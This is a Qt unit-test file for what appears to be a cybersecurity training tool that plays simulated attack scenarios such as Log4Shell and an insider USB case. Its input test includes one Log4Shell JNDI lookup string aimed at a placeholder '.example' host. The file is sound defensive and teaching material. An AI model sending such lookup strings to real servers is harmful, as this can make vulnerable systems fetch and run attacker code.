#include "scenario/library.h"
#include "scenario/player.h"
#include "scenario/storyteller.h"

#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QJsonDocument>
#include <QLineF>
#include <QRectF>
#include <QRegularExpression>
#include <QSet>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>

using namespace sandtable;
using namespace sandtable::scenario;
using namespace Qt::StringLiterals;

namespace
{

QJsonObject log4shellDocument()
{
    return ScenarioLibrary().find(u"log4shell")->source;
}

/// Puts `value` at a path like `beats.3.at_ms`; Undefined removes it.
QJsonValue changed(const QJsonValue &document, const QStringList &path, const QJsonValue &value)
{
    if (path.isEmpty())
        return value;
    if (document.isArray()) {
        QJsonArray array = document.toArray();
        const qsizetype index = path.constFirst().toInt();
        array.replace(index, changed(array.at(index), path.mid(1), value));
        return array;
    }
    QJsonObject object = document.toObject();
    const QJsonValue inner = changed(object.value(path.constFirst()), path.mid(1), value);
    if (inner.isUndefined())
        object.remove(path.constFirst());
    else
        object.insert(path.constFirst(), inner);
    return object;
}

} // namespace

class ScenarioTest : public QObject
{
    Q_OBJECT

private slots:
    void theLibraryHasTheClassic();
    void theFiveAreToldInFull_data() { eachScenario(); }
    void theFiveAreToldInFull();
    void isWellLaidOut_data() { eachScenario(); }
    void isWellLaidOut();
    void readsEveryBuiltInFile();
    void namesThePlaceOfMistakes_data();
    void namesThePlaceOfMistakes();
    void namesEveryMistake();
    void isolatesOnlyWhatIsThere_data();
    void isolatesOnlyWhatIsThere();
    void speaksOtherLanguages();
    void everythingThatPeopleReadIsTranslated_data() { eachScenario(); }
    void everythingThatPeopleReadIsTranslated();
    void aFolderAddsAndReplaces();
    void drawsFreshFactsInTheirRanges_data();
    void drawsFreshFactsInTheirRanges();
    void drawsNoFactTwice();
    void refusesMorePlaceholdersThanFacts();
    void tellsTheSameStoryForTheSameSeed();
    void avoidsWhatIsTaken();
    void takesWhatWasTyped();
    void playsInOrder_data();
    void playsInOrder();
    void stopsWhenTold();
    void stoppingAtTheDetectionDetectsNothing();
    void startsAnew();
    void livePaceKeepsTheTimes();
    void stepPaceWaits();
    void stepPaceGoesBack();
    void theFolderIsReadAgain();

private:
    static void eachScenario();
};

void ScenarioTest::eachScenario()
{
    QTest::addColumn<QString>("id");
    const ScenarioLibrary library;
    for (const Scenario &scenario : library.scenarios())
        QTest::newRow(qPrintable(scenario.id)) << scenario.id;
}

void ScenarioTest::theFiveAreToldInFull()
{
    QFETCH(QString, id);
    const ScenarioLibrary library;
    QCOMPARE(library.scenarios().size(), 5);
    const Scenario &scenario = *library.find(id);
    QVERIFY(scenario.duration() >= std::chrono::seconds(10) &&
            scenario.duration() <= std::chrono::seconds(20));
    QVERIFY(scenario.techniques.size() >= 4);
    static const QRegularExpression technique(u"\\AT\\d{4}(\\.\\d{3})?\\z"_s);
    for (const QString &each : scenario.techniques)
        QVERIFY2(technique.match(each).hasMatch(), qPrintable(each));
    const auto spoken = std::count_if(scenario.beats.cbegin(), scenario.beats.cend(),
                                      [](const Beat &beat) { return !beat.notes.isEmpty(); });
    QVERIFY2(2 * spoken > scenario.beats.size(), "speaker's notes on most beats");
    QVERIFY(scenario.sightings.size() >= 2);
    SeededRandom random(7);
    const Result<Story> story = tellStory(scenario, random, u"run"_s, {});
    QVERIFY2(story.has_value(), story ? "" : qPrintable(toText(story.error())));
    QVERIFY(!QJsonDocument(story->scenario.source).toJson().contains("{{"));
    QVERIFY(!story->scenario.block.isEmpty() || !story->scenario.isolate.isEmpty());
}

void ScenarioTest::theLibraryHasTheClassic()
{
    const ScenarioLibrary library;
    const Scenario *scenario = library.find(u"log4shell");
    QVERIFY(scenario);
    QCOMPARE(scenario->sightings.size(), 2);
    for (const QString &kind : {u"attacker"_s, u"internet"_s, u"router"_s, u"firewall"_s, u"switch"_s,
                                u"access-point"_s, u"camera"_s, u"web-server"_s})
        QVERIFY2(scenario->nodeOfKind(kind), qPrintable(kind));
    const auto wireless = std::count_if(scenario->links.cbegin(), scenario->links.cend(),
                                        [](const Link &link) { return link.wireless; });
    QCOMPARE(wireless, 4);
    QVERIFY(scenario->duration() >= std::chrono::seconds(12) &&
            scenario->duration() <= std::chrono::seconds(15));
    QVERIFY(std::any_of(scenario->beats.cbegin(), scenario->beats.cend(),
                        [](const Beat &beat) { return !beat.notes.isEmpty(); }));
    const auto hashes = std::count_if(
        scenario->sightings.at(1).observables.cbegin(), scenario->sightings.at(1).observables.cend(),
        [](const intel::Observable &observable) { return observable.type == u"sha256"; });
    QCOMPARE(hashes, 2);
    for (const intel::Sighting &sighting : scenario->sightings)
        QVERIFY(!sighting.observables.isEmpty() && !sighting.targets.isEmpty() &&
                !sighting.relations.isEmpty());
}

void ScenarioTest::isWellLaidOut()
{
    // What a node takes on the plane: its symbol, and below it the label in large letters.
    const auto symbol = [](const Node &node) {
        return QRectF(node.position.x() - 33, node.position.y() - 33, 66, 66);
    };
    const auto label = [](const Node &node) {
        const double width = 12.0 * double(node.label.size());
        return QRectF(node.position.x() - width / 2, node.position.y() + 36, width, 27);
    };
    QFETCH(QString, id);
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(id);
    const QRectF plane(0, 0, 1000, 600);
    for (const Node &node : scenario.nodes) {
        QVERIFY2(plane.contains(symbol(node)) && plane.contains(label(node)), qPrintable(node.id));
        for (const Node &other : scenario.nodes) {
            if (other.id == node.id)
                continue;
            const QString pair = node.id + u' ' + other.id;
            QVERIFY2(!label(node).intersects(label(other)) && !label(node).intersects(symbol(other)),
                     qPrintable(pair));
            QVERIFY2(!symbol(node).intersects(symbol(other)), qPrintable(pair));
        }
        for (const Link &link : scenario.links) {
            if (link.from == node.id || link.to == node.id)
                continue;
            const QLineF line(scenario.node(link.from)->position, scenario.node(link.to)->position);
            for (int step = 0; step <= 200; ++step)
                QVERIFY2(!symbol(node).contains(line.pointAt(step / 200.0)),
                         qPrintable(node.id + u' ' + link.from + u' ' + link.to));
        }
    }
}

void ScenarioTest::readsEveryBuiltInFile()
{
    const ScenarioLibrary library;
    const QStringList files = QDir(QStringLiteral(SANDTABLE_SOURCE_DIR "/resources/scenarios"))
                                  .entryList({u"*.json"_s}, QDir::Files);
    QVERIFY(!files.isEmpty());
    QCOMPARE(library.scenarios().size(), files.size());
    for (const QString &file : files) {
        const Result<Scenario> scenario = readScenarioFile(u":/scenarios/"_s + file);
        QVERIFY2(scenario.has_value(), scenario ? "" : qPrintable(toText(scenario.error())));
        QCOMPARE(scenario->id + u".json"_s, file);
    }
}

void ScenarioTest::namesThePlaceOfMistakes_data()
{
    QTest::addColumn<QString>("path");
    QTest::addColumn<QJsonValue>("value");
    QTest::addColumn<QString>("place");
    QTest::addColumn<QString>("detail");
    QTest::newRow("number") << u"beats.3.at_ms"_s << QJsonValue(u"soon"_s) << u"beats[3].at_ms"_s
                            << u"expected a number"_s;
    QTest::newRow("order") << u"beats.3.at_ms"_s << QJsonValue(1) << u"beats[3].at_ms"_s << u"earlier"_s;
    QTest::newRow("missing") << u"incident.title"_s << QJsonValue(QJsonValue::Undefined)
                             << u"incident.title"_s << u"expected a text"_s;
    QTest::newRow("translates nothing")
        << u"translations.fr.texts.Nobody says so"_s << QJsonValue(u"Personne"_s)
        << u"translations.fr.texts"_s << u"says “Nobody says so”"_s;
    QTest::newRow("unknown key") << u"login.colour"_s << QJsonValue(u"red"_s) << u"login.colour"_s
                                 << u"unknown"_s;
    QTest::newRow("unknown node") << u"beats.2.node"_s << QJsonValue(u"moon"_s) << u"beats[2].node"_s
                                  << u"no node moon"_s;
    QTest::newRow("no such link") << u"beats.1.path.2"_s << QJsonValue(u"files"_s) << u"beats[1].path[2]"_s
                                  << u"no link"_s;
    QTest::newRow("kind of node") << u"nodes.0.kind"_s << QJsonValue(u"toaster"_s) << u"nodes[0].kind"_s
                                  << u"expected one of"_s;
    QTest::newRow("off the plane") << u"nodes.0.x"_s << QJsonValue(2000) << u"nodes[0].x"_s
                                   << u"from 0 to 1000"_s;
    QTest::newRow("twice the same node")
        << u"nodes.1.id"_s << QJsonValue(u"attacker"_s) << u"nodes[1].id"_s << u"another node"_s;
    QTest::newRow("placeholder nobody draws") << u"incident.title"_s << QJsonValue(u"{{nothing}}"_s)
                                              << u"incident.title"_s << u"no placeholder nothing"_s;
    QTest::newRow("kind of fact") << u"placeholders.attacker_ip"_s << QJsonValue(u"telephone"_s)
                                  << u"placeholders.attacker_ip"_s << u"expected one of"_s;
    QTest::newRow("version") << u"version"_s << QJsonValue(2) << u"version"_s << u"expected 1"_s;
    QTest::newRow("format") << u"format"_s << QJsonValue(u"play"_s) << u"format"_s << u"expected one of"_s;
    QTest::newRow("list") << u"sightings"_s << QJsonValue(QJsonArray()) << u"sightings"_s << u"not empty"_s;
    QTest::newRow("two sightings of one name")
        << u"sightings.1.name"_s << QJsonValue(u"connection"_s) << u"sightings[1].name"_s << u"taken"_s;
    QTest::newRow("deep") << u"sightings.0.targets.0.observables.0.type"_s << QJsonValue(7)
                          << u"sightings[0].targets[0].observables[0].type"_s << u"expected a text"_s;
    QTest::newRow("detected when blocked") << u"blocked_beats.0.kind"_s << QJsonValue(u"detected"_s)
                                           << u"blocked_beats"_s << u"not detected again"_s;
    QTest::newRow("a long way off") << u"beats.3.at_ms"_s << QJsonValue(1e300) << u"beats[3].at_ms"_s
                                    << u"from 0 to 600000"_s;
    QTest::newRow("nothing to block")
        << u"block"_s << QJsonValue(QJsonArray()) << u"block"_s << u"at least one"_s;
    QTest::newRow("no list to block")
        << u"block"_s << QJsonValue(QJsonValue::Undefined) << u"block"_s << u"expected a list"_s;
    QTest::newRow("blocks what nobody saw")
        << u"block.0"_s << QJsonValue(u"192.0.2.77"_s) << u"block[0]"_s << u"no sighting"_s;
    QTest::newRow("link to itself") << u"links.0.to"_s << QJsonValue(u"attacker"_s) << u"links[0].to"_s
                                    << u"two nodes"_s;
    QTest::newRow("link to nowhere") << u"links.0.to"_s << QJsonValue(u"moon"_s) << u"links[0].to"_s
                                     << u"no node moon"_s;
    QTest::newRow("kind of observable") << u"sightings.0.observables.0.type"_s << QJsonValue(u"telephone"_s)
                                        << u"sightings[0].observables[0].type"_s << u"type of observable"_s;
    QTest::newRow("kind of a related observable")
        << u"sightings.1.relations.0.related.type"_s << QJsonValue(u"IP"_s)
        << u"sightings[1].relations[0].related.type"_s << u"type of observable"_s;
    QTest::newRow("name of a sighting")
        << u"sightings.0.name"_s << QJsonValue(u"a, b"_s) << u"sightings[0].name"_s << u"small letters"_s;
    QTest::newRow("name of the incident")
        << u"sightings.0.name"_s << QJsonValue(u"incident"_s) << u"sightings[0].name"_s << u"taken"_s;
    QTest::newRow("long title") << u"incident.title"_s << QJsonValue(QString(1025, u'x'))
                                << u"incident.title"_s << u"at most 1024"_s;
    QTest::newRow("long description") << u"sightings.1.description"_s << QJsonValue(QString(5001, u'x'))
                                      << u"sightings[1].description"_s << u"at most 5000"_s;
    QTest::newRow("placeholder payload")
        << u"placeholders.payload"_s << QJsonValue(u"ipv4"_s) << u"placeholders.payload"_s << u"typed"_s;
    QTest::newRow("severity") << u"incident.severity"_s << QJsonValue(u"Bad"_s) << u"incident.severity"_s
                              << u"Low, Medium, High, Critical"_s;
    QTest::newRow("no payloads") << u"login.payloads"_s << QJsonValue(QJsonArray()) << u"login.payloads"_s
                                 << u"not empty"_s;
    QTest::newRow("wireless or not") << u"links.0.wireless"_s << QJsonValue(1) << u"links[0].wireless"_s
                                     << u"true or false"_s;
    QTest::newRow("id on two lines") << u"id"_s << QJsonValue(u"two\n"_s) << u"id"_s << u"small letters"_s;
    QTest::newRow("id") << u"id"_s << QJsonValue(u"Two Words"_s) << u"id"_s << u"small letters"_s;
}

void ScenarioTest::namesThePlaceOfMistakes()
{
    QFETCH(QString, path);
    QFETCH(QJsonValue, value);
    QFETCH(QString, place);
    QFETCH(QString, detail);
    const QJsonObject document = changed(log4shellDocument(), path.split(u'.'), value).toObject();
    const Result<Scenario> scenario = Scenario::parse(QJsonDocument(document).toJson());
    QVERIFY(!scenario.has_value());
    QCOMPARE(scenario.error().kind, ErrorKind::Document);
    QCOMPARE(scenario.error().place, place);
    QVERIFY2(scenario.error().detail.contains(detail), qPrintable(scenario.error().detail));
}

void ScenarioTest::namesEveryMistake()
{
    QJsonValue document = log4shellDocument();
    document = changed(document, {u"beats"_s, u"3"_s, u"at_ms"_s}, u"soon"_s);
    document = changed(document, {u"nodes"_s, u"0"_s, u"kind"_s}, u"toaster"_s);
    document = changed(document, {u"block"_s, u"0"_s}, u"192.0.2.77"_s);
    document = changed(document, {u"login"_s, u"colour"_s}, u"red"_s);
    const QList<Error> mistakes = Scenario::problemsOf(QJsonDocument(document.toObject()).toJson());
    QStringList places;
    for (const Error &mistake : mistakes)
        places.append(mistake.place);
    for (const QString &place : {u"beats[3].at_ms"_s, u"nodes[0].kind"_s, u"block[0]"_s, u"login.colour"_s})
        QVERIFY2(places.contains(place), qPrintable(places.join(u' ')));
    QCOMPARE(QSet<QString>(places.cbegin(), places.cend()).size(), places.size());
    QVERIFY(Scenario::problemsOf(QJsonDocument(log4shellDocument()).toJson()).isEmpty());
    QCOMPARE(Scenario::problemsOf("{").size(), 1);
}

void ScenarioTest::isolatesOnlyWhatIsThere_data()
{
    QTest::addColumn<QString>("host");
    QTest::addColumn<QString>("detail");
    QTest::newRow("no target") << u"fin-ws-08"_s << u"no sighting has the target"_s;
    QTest::newRow("not on the topology") << u"k.moreau"_s << u"there is no node"_s;
}

void ScenarioTest::isolatesOnlyWhatIsThere()
{
    QFETCH(QString, host);
    QFETCH(QString, detail);
    QJsonValue document = ScenarioLibrary().find(u"insider-usb")->source;
    document = changed(document, {u"isolate"_s, u"0"_s}, host);
    if (host == u"k.moreau") {
        const QJsonArray target{QJsonObject{{u"type"_s, u"user"_s}, {u"value"_s, host}}};
        document =
            changed(document, {u"sightings"_s, u"0"_s, u"targets"_s, u"0"_s, u"observables"_s}, target);
    }
    const QList<Error> mistakes = Scenario::problemsOf(QJsonDocument(document.toObject()).toJson());
    QVERIFY(!mistakes.isEmpty());
    QCOMPARE(mistakes.constFirst().place, u"isolate[0]"_s);
    QVERIFY2(mistakes.constFirst().detail.contains(detail), qPrintable(mistakes.constFirst().detail));
}

void ScenarioTest::speaksOtherLanguages()
{
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(u"insider-usb");
    QVERIFY(scenario.textIn(u"fr"_s).title.startsWith(u"Menace"_s));
    QCOMPARE(scenario.textIn(u"fr_CA"_s), scenario.textIn(u"fr"_s));
    QCOMPARE(scenario.textIn(u"de"_s).title, scenario.title);
    QCOMPARE(scenario.nodeNamed(u"FIN-WS-07"_s), scenario.node(u"fin-ws-07"));
    QCOMPARE(scenario.nodeNamed(u"10.60.1.27"_s), scenario.node(u"fin-ws-07"));
    QVERIFY(!scenario.nodeNamed(u"nobody"_s));
}

void ScenarioTest::everythingThatPeopleReadIsTranslated()
{
    QFETCH(QString, id);
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(id);
    const QHash<QString, QString> french = scenario.textIn(u"fr"_s).texts;
    QStringList missing;
    const auto look = [&](const QString &text) {
        if (!text.isEmpty() && !french.contains(text))
            missing.append(text);
    };
    for (const Node &node : scenario.nodes) {
        look(node.label);
        look(node.role);
    }
    look(scenario.login.title);
    look(scenario.login.hint);
    for (const Payload &payload : scenario.login.payloads)
        look(payload.label);
    for (const QList<Beat> &beats : {scenario.beats, scenario.blockedBeats}) {
        for (const Beat &beat : beats) {
            if (beat.kind != BeatKind::ConsoleLine) // a program prints that
                look(beat.text);
            look(beat.notes);
        }
    }
    QCOMPARE(missing.join(u'\n'), QString());

    // Said in French, and told so: facts are filled in, and the tenant gets what it always gets.
    const Scenario said = scenario.in(u"fr_FR"_s);
    QCOMPARE(said.title, scenario.textIn(u"fr"_s).title);
    QCOMPARE(said.beats.size(), scenario.beats.size());
    QCOMPARE(said.beats.constFirst().text, french.value(scenario.beats.constFirst().text));
    SeededRandom random(1);
    const Result<Story> told = tellStory(said, random, u"run-1"_s, {}, {});
    QVERIFY2(told.has_value(), told ? "" : qPrintable(sandtable::toText(told.error())));
    SeededRandom again(1);
    const Result<Story> english = tellStory(scenario, again, u"run-1"_s, {}, {});
    QCOMPARE(told->scenario.incident.title, english->scenario.incident.title);
    QCOMPARE(told->attackers(), english->attackers());
    for (const Beat &beat : told->scenario.beats)
        QVERIFY2(!beat.text.contains(u"{{"_s), qPrintable(beat.text));
    QCOMPARE(scenario.in(u"de"_s).beats, scenario.beats);
}

void ScenarioTest::aFolderAddsAndReplaces()
{
    QTemporaryDir folder;
    const auto write = [&](const QString &name, const QByteArray &text) {
        QFile file(folder.filePath(name));
        QVERIFY(file.open(QIODevice::WriteOnly));
        file.write(text);
    };
    QJsonObject other = log4shellDocument();
    other.insert(u"id"_s, u"other"_s);
    QJsonObject same = log4shellDocument();
    same.insert(u"title"_s, u"Mine"_s);
    write(u"a.json"_s, QJsonDocument(other).toJson());
    write(u"b.json"_s, QJsonDocument(same).toJson());
    write(u"c.json"_s, "{ \"format\": nope }");
    ScenarioLibrary library;
    const qsizetype before = library.scenarios().size();
    const QList<Error> problems = library.addFolder(folder.path());
    QCOMPARE(problems.size(), 1);
    QVERIFY(problems.constFirst().service.endsWith(u"c.json"_s));
    QVERIFY(problems.constFirst().place.startsWith(u"line 1"_s));
    QCOMPARE(library.scenarios().size(), before + 1);
    QCOMPARE(library.find(u"log4shell")->title, u"Mine"_s);
    QVERIFY(library.addFolder(folder.filePath(u"none"_s)).isEmpty());
}

void ScenarioTest::drawsFreshFactsInTheirRanges_data()
{
    QTest::addColumn<QString>("kind");
    QTest::addColumn<QString>("pattern");
    QTest::newRow("ipv4") << u"ipv4"_s
                          << u"^(198\\.51\\.100|203\\.0\\.113)\\.([1-9]\\d?|1\\d\\d|2[0-4]\\d|25[0-4])$"_s;
    QTest::newRow("ipv6") << u"ipv6"_s << u"^2001:db8:[0-9a-f]{1,4}:[0-9a-f]{1,4}::[0-9a-f]{1,4}$"_s;
    QTest::newRow("domain") << u"domain"_s << u"^[a-z]+\\.example$"_s;
    QTest::newRow("url") << u"url"_s << u"^http://[a-z]+\\.example/[a-z]+$"_s;
    QTest::newRow("sha256") << u"sha256"_s << u"^[0-9a-f]{64}$"_s;
    QTest::newRow("sha1") << u"sha1"_s << u"^[0-9a-f]{40}$"_s;
    QTest::newRow("md5") << u"md5"_s << u"^[0-9a-f]{32}$"_s;
    QTest::newRow("uuid") << u"uuid"_s
                          << u"^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"_s;
    QTest::newRow("hostname") << u"hostname"_s << u"^[a-z]+-\\d\\d$"_s;
}

void ScenarioTest::drawsFreshFactsInTheirRanges()
{
    QFETCH(QString, kind);
    QFETCH(QString, pattern);
    SystemRandom random;
    for (int i = 0; i < 200; ++i) {
        const QString fact = drawFact(kind, random);
        QVERIFY2(QRegularExpression(pattern).match(fact).hasMatch(), qPrintable(fact));
    }
}

void ScenarioTest::drawsNoFactTwice()
{
    QJsonObject document = log4shellDocument();
    QJsonObject placeholders = document.value(u"placeholders"_s).toObject();
    for (int i = placeholders.size(); i < 64; ++i)
        placeholders.insert(u"address_%1"_s.arg(i), u"ipv4"_s);
    document.insert(u"placeholders"_s, placeholders);
    const Result<Scenario> scenario = Scenario::fromJson(document);
    QVERIFY(scenario.has_value());
    SeededRandom random(1);
    const Result<Story> story = tellStory(*scenario, random, u"run"_s, {});
    QVERIFY(story.has_value());
    const QStringList facts = story->facts.values();
    QCOMPARE(QSet<QString>(facts.cbegin(), facts.cend()).size(), facts.size());
}

void ScenarioTest::refusesMorePlaceholdersThanFacts()
{
    // There are 508 addresses to draw: more placeholders could never be told apart.
    QJsonObject document = log4shellDocument();
    QJsonObject placeholders = document.value(u"placeholders"_s).toObject();
    for (int i = 0; i < 600; ++i)
        placeholders.insert(u"address_%1"_s.arg(i), u"ipv4"_s);
    document.insert(u"placeholders"_s, placeholders);
    const Result<Scenario> scenario = Scenario::fromJson(document);
    QVERIFY(!scenario.has_value());
    QCOMPARE(scenario.error().place, u"placeholders"_s);
    QCOMPARE(scenario.error().detail, u"expected at most 64"_s);
}

void ScenarioTest::tellsTheSameStoryForTheSameSeed()
{
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(u"log4shell");
    SeededRandom a(11);
    SeededRandom b(11);
    SeededRandom c(12);
    const Result<Story> first = tellStory(scenario, a, u"run-1"_s, {});
    const Result<Story> again = tellStory(scenario, b, u"run-1"_s, {});
    const Result<Story> other = tellStory(scenario, c, u"run-2"_s, {});
    QVERIFY(first.has_value() && again.has_value() && other.has_value());
    QCOMPARE(first->facts, again->facts);
    QVERIFY(first->facts.value(u"attacker_ip"_s) != other->facts.value(u"attacker_ip"_s));
    QCOMPARE(first->attackers(), QStringList{first->facts.value(u"attacker_ip"_s)});
    const QByteArray text = QJsonDocument(first->scenario.source).toJson();
    QVERIFY(!text.contains("{{"));
    QVERIFY(text.contains(first->facts.value(u"loader_sha256"_s).toUtf8()));
    QVERIFY(first->facts.value(u"payload"_s).contains(first->facts.value(u"ldap_host"_s)));
}

void ScenarioTest::avoidsWhatIsTaken()
{
    // All addresses of the documentation ranges but one are blocked already.
    QStringList taken;
    for (const QString &net : {u"198.51.100."_s, u"203.0.113."_s}) {
        for (int host = 1; host < 255; ++host)
            taken.append(net + QString::number(host));
    }
    taken.removeOne(u"203.0.113.17"_s);
    const ScenarioLibrary library;
    SeededRandom random(21);
    const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, {}, taken);
    QCOMPARE(story->attackers(), QStringList{u"203.0.113.17"_s});
    taken.append(u"203.0.113.17"_s);
    QVERIFY(tellStory(*library.find(u"log4shell"), random, u"run"_s, {}, taken).has_value());
}

void ScenarioTest::takesWhatWasTyped()
{
    const ScenarioLibrary library;
    SeededRandom random(3);
    for (const QString &typed : {u"${jndi:ldap://x.example/a}"_s,
                                 u"{{attacker_ip}} {{nothing}} \"quoted\" <b>"_s, QString(100000, u'x')}) {
        const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, typed);
        QVERIFY(story.has_value());
        const QString fact = story->facts.value(u"payload"_s);
        QVERIFY(fact.size() <= 2100 && !fact.contains(u"{{"_s));
        QVERIFY(story->scenario.beats.at(1).text.contains(fact));
    }
}

void ScenarioTest::playsInOrder_data()
{
    QTest::addColumn<bool>("dropped");
    QTest::newRow("attack") << false;
    QTest::newRow("dropped by the firewall") << true;
}

void ScenarioTest::playsInOrder()
{
    QFETCH(bool, dropped);
    const ScenarioLibrary library;
    SeededRandom random(5);
    const Result<Story> story = tellStory(*library.find(u"log4shell"), random, u"run"_s, {});
    ScenarioPlayer player;
    QSignalSpy detected(&player, &ScenarioPlayer::detected);
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    QList<Beat> played;
    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) { played.append(beat); });
    player.play(story->scenario, ScenarioPlayer::Pace::Instant, dropped);
    QVERIFY(played.isEmpty());
    QTRY_COMPARE(finished.size(), 1);
    QCOMPARE(played, dropped ? story->scenario.blockedBeats : story->scenario.beats);
    QCOMPARE(detected.size(), dropped ? 0 : 1);
    QVERIFY(!player.isPlaying());
}

void ScenarioTest::stopsWhenTold()
{
    const ScenarioLibrary library;
    ScenarioPlayer player;
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    int count = 0;
    connect(&player, &ScenarioPlayer::beatPlayed, this, [&] {
        if (++count == 3)
            player.stop();
    });
    player.play(*library.find(u"log4shell"), ScenarioPlayer::Pace::Instant, false);
    QTRY_COMPARE(count, 3);
    QTest::qWait(20);
    QCOMPARE(count, 3);
    QCOMPARE(finished.size(), 0);
}

void ScenarioTest::stoppingAtTheDetectionDetectsNothing()
{
    const ScenarioLibrary library;
    ScenarioPlayer player;
    QSignalSpy detected(&player, &ScenarioPlayer::detected);
    bool reached = false;
    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) {
        if (beat.kind == BeatKind::Detected) {
            reached = true;
            player.stop();
        }
    });
    player.play(*library.find(u"log4shell"), ScenarioPlayer::Pace::Instant, false);
    QTRY_VERIFY(reached);
    QCoreApplication::processEvents();
    QCOMPARE(detected.size(), 0);
}

void ScenarioTest::startsAnew()
{
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(u"log4shell");
    ScenarioPlayer player;
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    QList<Beat> played;
    connect(&player, &ScenarioPlayer::beatPlayed, this, [&](const Beat &beat) { played.append(beat); });
    player.play(scenario, ScenarioPlayer::Pace::Live, false);
    QTRY_COMPARE(played.size(), 1);
    player.play(scenario, ScenarioPlayer::Pace::Instant, true);
    QTRY_COMPARE(finished.size(), 1);
    QCOMPARE(played.mid(1), scenario.blockedBeats);
}

void ScenarioTest::livePaceKeepsTheTimes()
{
    Scenario scenario = *ScenarioLibrary().find(u"log4shell");
    scenario.beats.resize(3);
    for (qsizetype i = 0; i < scenario.beats.size(); ++i)
        scenario.beats[i].at = std::chrono::milliseconds(60 * i);
    ScenarioPlayer player;
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    QElapsedTimer timer;
    timer.start();
    player.play(scenario, ScenarioPlayer::Pace::Live, false);
    QTRY_COMPARE(finished.size(), 1);
    QVERIFY2(timer.elapsed() >= 119, qPrintable(QString::number(timer.elapsed())));
}

void ScenarioTest::stepPaceWaits()
{
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(u"log4shell");
    ScenarioPlayer player;
    QSignalSpy beats(&player, &ScenarioPlayer::beatPlayed);
    QSignalSpy detected(&player, &ScenarioPlayer::detected);
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    player.play(scenario, ScenarioPlayer::Pace::Step, false);
    QVERIFY(player.isPlaying() && player.isWaiting());
    QTest::qWait(20);
    QCOMPARE(beats.size(), 0);
    for (qsizetype i = 0; i < scenario.beats.size(); ++i) {
        player.next();
        QCOMPARE(beats.size(), i + 1); // at once: a presenter presses and sees
        QCOMPARE(player.played(), i + 1);
    }
    QCOMPARE(detected.size(), 1);
    QVERIFY(!player.isWaiting());
    QTRY_COMPARE(finished.size(), 1);
    QVERIFY(!player.isPlaying());
    player.next();
    QCOMPARE(beats.size(), scenario.beats.size());
}

void ScenarioTest::stepPaceGoesBack()
{
    const ScenarioLibrary library;
    const Scenario &scenario = *library.find(u"insider-usb");
    ScenarioPlayer player;
    QSignalSpy finished(&player, &ScenarioPlayer::finished);
    QList<QList<Beat>> rewound;
    int moved = 0;
    connect(&player, &ScenarioPlayer::rewound, this,
            [&](const QList<Beat> &beats) { rewound.append(beats); });
    connect(&player, &ScenarioPlayer::positionChanged, this, [&] { ++moved; });
    player.play(scenario, ScenarioPlayer::Pace::Step, true);
    player.back();
    QVERIFY(rewound.isEmpty());
    player.next();
    player.next();
    player.back();
    QCOMPARE(rewound.size(), 1);
    QCOMPARE(rewound.constLast(), scenario.blockedBeats.first(1));
    QVERIFY(player.isWaiting());
    player.back();
    QVERIFY(rewound.constLast().isEmpty());
    QCOMPARE(player.played(), 0);
    while (player.isWaiting())
        player.next();
    QTRY_COMPARE(finished.size(), 1);
    player.back(); // also after the end, which comes once
    QCOMPARE(player.played(), scenario.blockedBeats.size() - 1);
    player.next();
    QTest::qWait(20);
    QCOMPARE(finished.size(), 1);
    QVERIFY(moved > int(scenario.blockedBeats.size()));
}

void ScenarioTest::theFolderIsReadAgain()
{
    QTemporaryDir data;
    const QString folder = data.filePath(u"scenarios"_s);
    const auto write = [&](const QString &name, const QJsonObject &document) {
        QFile file(folder + u'/' + name);
        QVERIFY(file.open(QIODevice::WriteOnly | QIODevice::Truncate));
        file.write(QJsonDocument(document).toJson());
    };
    ScenarioLibrary library;
    QSignalSpy changes(&library, &ScenarioLibrary::changed);
    QSignalSpy problems(&library, &ScenarioLibrary::problemFound);
    QVERIFY(library.watchFolder(folder).isEmpty()); // it is not there yet
    const qsizetype before = library.scenarios().size();
    QVERIFY(QDir().mkdir(folder));
    QJsonObject mine = log4shellDocument();
    mine.insert(u"id"_s, u"mine"_s);
    mine.insert(u"title"_s, u"First version"_s);
    write(u"mine.json"_s, mine);
    QTRY_COMPARE(library.scenarios().size(), before + 1);
    QTRY_VERIFY(library.find(u"mine"));
    QCOMPARE(library.find(u"mine")->title, u"First version"_s);

    mine.insert(u"title"_s, u"Second version"_s);
    write(u"mine.json"_s, mine);
    QTRY_COMPARE(library.find(u"mine")->title, u"Second version"_s);
    QVERIFY(problems.isEmpty());

    QJsonObject broken = mine;
    broken.remove(u"beats"_s);
    write(u"mine.json"_s, broken);
    QTRY_COMPARE(problems.size(), 1);
    const Error problem = problems.constFirst().constFirst().value<Error>();
    QCOMPARE(problem.place, u"beats"_s);
    QVERIFY(problem.service.endsWith(u"mine.json"_s));
    QCOMPARE(library.find(u"mine")->title, u"Second version"_s); // the last good one stays

    const qsizetype told = changes.size();
    QVERIFY(QFile::remove(folder + u"/mine.json"_s));
    QTRY_VERIFY(!library.find(u"mine"));
    QVERIFY(changes.size() > told);
    QCOMPARE(problems.size(), 1);
}

QTEST_GUILESS_MAIN(ScenarioTest)
#include "tst_scenario.moc"
